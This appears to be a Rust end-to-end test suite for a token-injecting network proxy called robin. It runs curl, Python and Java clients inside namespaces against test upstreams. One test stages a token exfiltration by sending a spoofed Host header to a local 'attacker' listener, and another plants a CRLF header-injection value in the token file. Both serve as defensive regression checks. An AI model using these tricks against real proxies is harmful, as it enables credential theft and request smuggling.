//! `robin exec` end to end: real clients (curl, python urllib/requests) with no proxy settings,
//! inside a captured "pod" namespace, against real HTTPS/HTTP upstreams in another namespace.
use std::{
    net::IpAddr,
    path::PathBuf,
    process::{Command, Output},
    time::Duration,
};

use robin_e2e::{
    ChildGuard, Pki, TempDir, Topology, logged_requests, output_within, pod_etc,
    require_privileges, robin_bin, start_upstream_py, temp_dir,
};

const RULED: &str = "api.test";
const WILD: &str = "eu.wild.test";
const PASSTHROUGH: &str = "other.test";
const ROGUE: &str = "rogue.test";
const DEAD: &str = "dead.test";
const BROKER: &str = "broker.test";
const AUTH: &str = "auth.test";
const TOKEN: &str = "tok-ALPHA.123_secret";
const LIMIT: Duration = Duration::from_secs(60);

struct ExecWorld {
    topo: Topology,
    dir: TempDir,
    config: PathBuf,
    token: PathBuf,
    upstream_log: PathBuf,
    _servers: Vec<ChildGuard>,
}

impl ExecWorld {
    fn new() -> Self {
        Self::with_pod_cas(true)
    }

    /// `pod_cas`: whether the pod's trust store holds Robin's and the upstream CA (false: an
    /// empty bundle, as in an image nobody changed for Robin).
    fn with_pod_cas(pod_cas: bool) -> Self {
        require_privileges();
        let topo = Topology::new(1);
        let dir = temp_dir("exec");
        let pki = Pki::new(
            dir.path(),
            &[RULED, WILD, PASSTHROUGH, ROGUE, DEAD, BROKER, AUTH],
        );
        let up: IpAddr = topo.upstream_ip4.into();
        let dead: IpAddr = topo.extra_upstream_ip4[0].into();
        pod_etc(
            &topo.pod,
            &[
                (RULED, up),
                (WILD, up),
                (PASSTHROUGH, up),
                (ROGUE, up),
                (BROKER, up),
                (AUTH, up),
                (DEAD, dead),
            ],
            &if pod_cas {
                vec![pki.file("robin-ca.crt"), pki.file("upstream-ca.crt")]
            } else {
                Vec::new()
            },
        );
        let upstream_log = dir.path().join("upstream.log");
        let servers = vec![
            start_upstream_py(
                Some(&topo.upstream),
                up,
                443,
                Some((&pki.file("upstream.crt"), &pki.file("upstream.key"))),
                &upstream_log,
            ),
            start_upstream_py(Some(&topo.upstream), up, 80, None, &upstream_log),
            // Same names, certificate from a CA nobody trusts.
            start_upstream_py(
                Some(&topo.upstream),
                up,
                8443,
                Some((&pki.file("rogue.crt"), &pki.file("rogue.key"))),
                &upstream_log,
            ),
        ];
        let token = dir.path().join("token");
        std::fs::write(&token, format!("{TOKEN}\n")).expect("writing token");
        let config = dir.path().join("robin.toml");
        std::fs::write(
            &config,
            format!(
                r#"[tls]
ca_cert = "{}"
ca_key = "{}"
upstream_roots = "{}"

[capture]
ports = [80, 443, 8443]

[[inject]]
hosts = ["{RULED}", "*.wild.test", "{ROGUE}", "{DEAD}"]
source = {{ kind = "file", path = "{token}" }}

# The broker wants an access token for its own audience, traded for the workload's token.
[[inject]]
hosts = ["{BROKER}"]
source = {{ kind = "exchange", grant = "token_exchange", token_endpoint = "https://{AUTH}/token", audience = "broker", ca_file = "{up_ca}", inner = {{ kind = "file", path = "{token}" }} }}
"#,
                pki.file("robin-ca.crt").display(),
                pki.file("robin-ca.key").display(),
                pki.file("upstream-ca.crt").display(),
                token = token.display(),
                up_ca = pki.file("upstream-ca.crt").display(),
            ),
        )
        .expect("writing config");
        Self {
            topo,
            dir,
            config,
            token,
            upstream_log,
            _servers: servers,
        }
    }

    /// `ip netns exec POD robin exec --config CFG -- sh -c SCRIPT`, with no proxy variables.
    async fn exec(&self, script: &str) -> Output {
        self.exec_with(&[], script).await
    }

    async fn exec_with(&self, robin_args: &[&str], script: &str) -> Output {
        let mut cmd = Command::new("ip");
        cmd.args(["netns", "exec", self.topo.pod.name()])
            .arg(robin_bin())
            .arg("exec")
            .args(robin_args)
            .arg("--config")
            .arg(&self.config)
            .args(["--", "sh", "-c", script]);
        for var in [
            "HTTP_PROXY",
            "HTTPS_PROXY",
            "http_proxy",
            "https_proxy",
            "ALL_PROXY",
            "NO_PROXY",
        ] {
            cmd.env_remove(var);
        }
        let out = output_within(cmd, LIMIT).await;
        let logs = String::from_utf8_lossy(&out.stderr);
        assert!(
            !logs.contains(TOKEN),
            "a token value reached robin's output:\n{logs}"
        );
        out
    }

    fn upstream_requests(&self) -> Vec<serde_json::Value> {
        logged_requests(&self.upstream_log)
    }
}

fn stdout(out: &Output) -> String {
    assert!(
        out.status.success(),
        "workload failed ({}):\nstdout: {}\nstderr: {}",
        out.status,
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn json(text: &str) -> serde_json::Value {
    serde_json::from_str(text.trim()).unwrap_or_else(|e| panic!("not JSON ({e}): {text}"))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn curl_gets_the_current_token_with_placeholder_and_duplicates_replaced() {
    let w = ExecWorld::new();
    let out = w
        .exec(&format!(
            "curl -sS -H 'Authorization: Bearer app-placeholder' -H 'authorization: Basic dup' https://{RULED}/a"
        ))
        .await;
    let v = json(&stdout(&out));
    assert_eq!(
        v["authorization"],
        serde_json::json!([format!("Bearer {TOKEN}")])
    );
    assert_eq!(v["host"], RULED);
    // Wildcard rule, a name minted on demand.
    let v = json(&stdout(
        &w.exec(&format!("curl -sS https://{WILD}/w")).await,
    ));
    assert_eq!(
        v["authorization"],
        serde_json::json!([format!("Bearer {TOKEN}")])
    );
}

/// `java Client.java URL`: the JDK's HttpClient with its defaults (HTTP/2 first, so over
/// `http://` it offers an h2c upgrade), printing the body.
const JAVA_CLIENT: &str = r#"
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;

public class Client {
    public static void main(String[] args) throws Exception {
        HttpResponse<String> r = HttpClient.newHttpClient().send(
            HttpRequest.newBuilder(URI.create(args[0])).build(),
            HttpResponse.BodyHandlers.ofString());
        System.out.print(r.body());
    }
}
"#;

/// The app speaks plain `http://` and its image trusts no extra CA: Robin originates TLS to the
/// dialled address on 443, verified for the host, and injects there.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn plain_http_is_originated_over_tls_for_curl_python_and_java_with_no_ca_in_the_pod() {
    let w = ExecWorld::with_pod_cas(false);
    let java = w.dir.path().join("Client.java");
    std::fs::write(&java, JAVA_CLIENT).expect("writing Client.java");
    let script = format!(
        "curl -sS http://{RULED}/curl; echo; \
         python3 -c 'import urllib.request; print(urllib.request.urlopen(\"http://{RULED}/python\").read().decode())'; \
         java {} http://{RULED}/java",
        java.display()
    );
    let out = stdout(&w.exec(&script).await);
    let lines: Vec<_> = out.lines().filter(|l| !l.trim().is_empty()).collect();
    assert_eq!(lines.len(), 3, "{out}");
    for (line, path) in lines.iter().zip(["/curl", "/python", "/java"]) {
        let v = json(line);
        assert_eq!(v["path"], path, "{out}");
        assert_eq!(
            v["authorization"],
            serde_json::json!([format!("Bearer {TOKEN}")]),
            "{path}"
        );
        assert_eq!(
            (v["tls"].as_bool(), v["port"].as_u64()),
            (Some(true), Some(443)),
            "{path}"
        );
    }
    // Nothing reached the plain listener on port 80.
    assert!(
        w.upstream_requests().iter().all(|r| r["tls"] == true),
        "{:?}",
        w.upstream_requests()
    );
}

/// The exfiltration: a captured process names a ruled host but dials another address, where
/// its own server listens in plain HTTP. Robin used to send the token there in clear text.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ruled_host_header_to_another_address_gets_no_token() {
    let w = ExecWorld::new();
    let attacker: IpAddr = w.topo.extra_upstream_ip4[0].into();
    let log = w.dir.path().join("attacker.log");
    let _attacker = start_upstream_py(Some(&w.topo.upstream), attacker, 80, None, &log);
    let out = stdout(
        &w.exec(&format!(
            "curl -sS -o /dev/null -w '%{{http_code}}' -H 'Host: {RULED}' http://{attacker}/steal"
        ))
        .await,
    );
    assert_eq!(out.trim(), "502");
    let seen = std::fs::read_to_string(&log).unwrap_or_default();
    assert!(!seen.contains(TOKEN), "token reached the attacker: {seen}");
    assert!(
        seen.is_empty(),
        "nothing reaches the dialled address: {seen}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn python_urllib_and_requests_work_unmodified_and_see_rotation_on_one_connection() {
    let w = ExecWorld::new();
    let rotated = w.dir.path().join("rotate-now");
    let script = format!(
        r#"
import json, os, time, urllib.request, requests
print(json.dumps(json.load(urllib.request.urlopen("https://{RULED}/urllib"))))
s = requests.Session()
first = s.get("https://{RULED}/one").json()
tmp = "{token}.new"
open(tmp, "w").write("tok-rotated-2\n")
os.rename(tmp, "{token}")
second = s.get("https://{RULED}/two").json()
print(json.dumps([first, second]))
"#,
        token = w.token.display()
    );
    std::fs::write(&rotated, script).expect("writing client script");
    let out = w
        .exec(&format!("/usr/bin/python3 {}", rotated.display()))
        .await;
    let text = stdout(&out);
    let mut lines = text.lines();
    let urllib = json(lines.next().expect("urllib line"));
    assert_eq!(
        urllib["authorization"],
        serde_json::json!([format!("Bearer {TOKEN}")])
    );
    let pair = json(lines.next().expect("requests line"));
    assert_eq!(
        pair[0]["authorization"],
        serde_json::json!([format!("Bearer {TOKEN}")])
    );
    assert_eq!(
        pair[1]["authorization"],
        serde_json::json!(["Bearer tok-rotated-2"])
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn unruled_host_is_spliced_with_the_upstreams_own_certificate() {
    let w = ExecWorld::new();
    let out = w
        .exec(&format!(
            "curl -sS -o /dev/null -w '%{{certs}}' https://{PASSTHROUGH}/ | grep -m1 '^Issuer:'; \
             curl -sS -o /dev/null -w '%{{certs}}' https://{RULED}/ | grep -m1 '^Issuer:'; \
             curl -sS -H 'Authorization: Bearer app-own' https://{PASSTHROUGH}/p"
        ))
        .await;
    let text = stdout(&out);
    let lines: Vec<&str> = text.lines().collect();
    assert!(
        lines[0].contains("Test Upstream CA"),
        "passthrough issuer: {}",
        lines[0]
    );
    assert!(
        lines[1].contains("Test Robin CA"),
        "intercepted issuer: {}",
        lines[1]
    );
    let v = json(lines[2]);
    assert_eq!(
        v["authorization"],
        serde_json::json!(["Bearer app-own"]),
        "spliced bytes are untouched"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn missing_or_crlf_token_is_503_and_nothing_is_forwarded() {
    let w = ExecWorld::new();
    std::fs::remove_file(&w.token).expect("removing token");
    let out = w
        .exec(&format!(
            "curl -sS -o /dev/null -w '%{{http_code}}' https://{RULED}/missing"
        ))
        .await;
    assert_eq!(stdout(&out), "503");
    std::fs::write(&w.token, "abc\r\nX-Evil: yes\n").expect("writing hostile token");
    let out = w
        .exec(&format!(
            "curl -sS -o /dev/null -w '%{{http_code}}' https://{RULED}/crlf"
        ))
        .await;
    assert_eq!(stdout(&out), "503");
    assert!(
        w.upstream_requests().is_empty(),
        "nothing may reach the upstream: {:?}",
        w.upstream_requests()
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn dead_and_untrusted_upstreams_are_502_and_never_see_the_request() {
    let w = ExecWorld::new();
    let out = w
        .exec(&format!(
            "curl -sS -o /dev/null -w '%{{http_code}}' https://{DEAD}/"
        ))
        .await;
    assert_eq!(stdout(&out), "502");
    let out = w
        .exec(&format!(
            "curl -sS -o /dev/null -w '%{{http_code}}' https://{ROGUE}:8443/"
        ))
        .await;
    assert_eq!(stdout(&out), "502");
    assert!(
        w.upstream_requests().is_empty(),
        "the token must never reach an unverified peer"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sse_events_arrive_as_they_are_sent() {
    let w = ExecWorld::new();
    let script = format!(
        "import time, urllib.request\n\
         r = urllib.request.urlopen('https://{RULED}/sse')\n\
         first = r.readline(); t_first = time.monotonic()\n\
         rest = r.read(); t_end = time.monotonic()\n\
         print(first.decode().strip(), round(t_end - t_first, 3))\n"
    );
    let file = w.dir.path().join("sse.py");
    std::fs::write(&file, script).expect("writing sse client");
    let text = stdout(
        &w.exec(&format!("/usr/bin/python3 {}", file.display()))
            .await,
    );
    let (event, gap) = text.trim().rsplit_once(' ').expect("event and gap");
    assert!(event.starts_with("data: event-0"), "{text}");
    let gap: f64 = gap.parse().expect("gap");
    assert!(
        gap > 0.4,
        "the first event must arrive before the stream ends (gap {gap}s)"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn large_upload_is_streamed_not_buffered() {
    const SIZE: u64 = 512 << 20;
    let w = ExecWorld::new();
    let file = w.dir.path().join("upload.bin");
    std::fs::File::create(&file)
        .expect("create")
        .set_len(SIZE)
        .expect("sparse file");
    // $PPID of the shell is robin itself: its peak RSS after the upload tells if it buffered.
    let out = w
        .exec(&format!(
            "curl -sS -X POST -T {} https://{RULED}/upload; grep VmHWM /proc/$PPID/status",
            file.display()
        ))
        .await;
    let text = stdout(&out);
    let mut lines = text.lines();
    let v = json(lines.next().expect("upload reply"));
    assert_eq!(v["received"].as_u64(), Some(SIZE));
    let hwm_kib: u64 = lines
        .next()
        .and_then(|l| l.split_whitespace().nth(1))
        .and_then(|n| n.parse().ok())
        .expect("VmHWM line");
    assert!(
        hwm_kib < 128 * 1024,
        "robin peaked at {hwm_kib} KiB for a {SIZE}-byte upload"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn oversized_header_section_is_431() {
    let w = ExecWorld::new();
    // 200 KB in one header: past any sane header section limit (and past argv's, hence a file).
    let header = w.dir.path().join("big-header");
    std::fs::write(&header, format!("X-Big: {}\n", "a".repeat(200_000))).expect("header file");
    let out = w
        .exec(&format!(
            "curl -sS --http1.1 -o /dev/null -w '%{{http_code}}' -H @{h} https://{RULED}/big; \
             echo; curl -s --http2 -o /dev/null -w '%{{http_code}}' -H @{h} https://{RULED}/big; \
             true",
            h = header.display()
        ))
        .await;
    let text = stdout(&out);
    let mut lines = text.lines();
    assert_eq!(lines.next(), Some("431"), "HTTP/1.1: {text}");
    // HTTP/2: the h2 layer refuses an oversized header block (431 or a reset stream).
    let h2 = lines.next().unwrap_or_default();
    assert!(
        h2 == "431" || h2 == "000",
        "HTTP/2 must refuse the request: {text}"
    );
    assert!(
        w.upstream_requests().is_empty(),
        "an oversized request is never forwarded"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exit_status_propagates_and_environment_is_untouched() {
    let w = ExecWorld::new();
    let out = w.exec("env | grep -i _proxy; exit 7").await;
    assert_eq!(out.status.code(), Some(7));
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "",
        "no proxy variable may be set"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exchange_rule_trades_the_file_token_at_the_token_endpoint() {
    let w = ExecWorld::new();
    let out = w
        .exec(&format!(
            "curl -sS https://{BROKER}/one && curl -sS https://{BROKER}/two"
        ))
        .await;
    let text = stdout(&out);
    let expected = serde_json::json!([format!("Bearer exchanged.{TOKEN}.broker")]);
    for line in text.lines() {
        assert_eq!(json(line)["authorization"], expected, "{text}");
    }
    let token_calls: Vec<_> = w
        .upstream_requests()
        .into_iter()
        .filter(|r| r["path"] == "/token")
        .collect();
    assert_eq!(
        token_calls.len(),
        1,
        "the exchanged token is cached across requests"
    );
    let form = &token_calls[0]["form"];
    assert_eq!(
        form["grant_type"],
        "urn:ietf:params:oauth:grant-type:token-exchange"
    );
    assert_eq!(form["subject_token"], TOKEN);
    assert_eq!(
        form["subject_token_type"],
        "urn:ietf:params:oauth:token-type:jwt"
    );
    assert_eq!(form["audience"], "broker");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn json_logs_have_one_record_per_connection_and_per_request() {
    let w = ExecWorld::new();
    let out = w
        .exec_with(
            &["--log-format", "json"],
            &format!("curl -sS -o /dev/null https://{RULED}/a?secret-query=1 https://{RULED}/b; curl -sS -o /dev/null https://{PASSTHROUGH}/"),
        )
        .await;
    stdout(&out);
    let records: Vec<serde_json::Value> = String::from_utf8_lossy(&out.stderr)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("not a JSON record ({e}): {l}")))
        .collect();
    let requests: Vec<_> = records
        .iter()
        .filter(|r| r["message"] == "request")
        .collect();
    assert_eq!(requests.len(), 2, "one record per request: {records:?}");
    assert_eq!(requests[0]["status"], 200);
    assert_eq!(
        requests[0]["path"], "/a",
        "the query string is never logged"
    );
    let conns: Vec<_> = records
        .iter()
        .filter(|r| r["message"] == "connection closed")
        .collect();
    assert_eq!(conns.len(), 2, "one record per connection: {records:?}");
    let modes: Vec<&str> = conns
        .iter()
        .map(|c| c["mode"].as_str().unwrap_or(""))
        .collect();
    assert_eq!(modes, ["intercept", "splice"]);
    for c in conns {
        for field in [
            "client",
            "dst",
            "name",
            "rule",
            "bytes_up",
            "bytes_down",
            "ms",
        ] {
            assert!(!c[field].is_null(), "connection record lacks {field}: {c}");
        }
    }
}
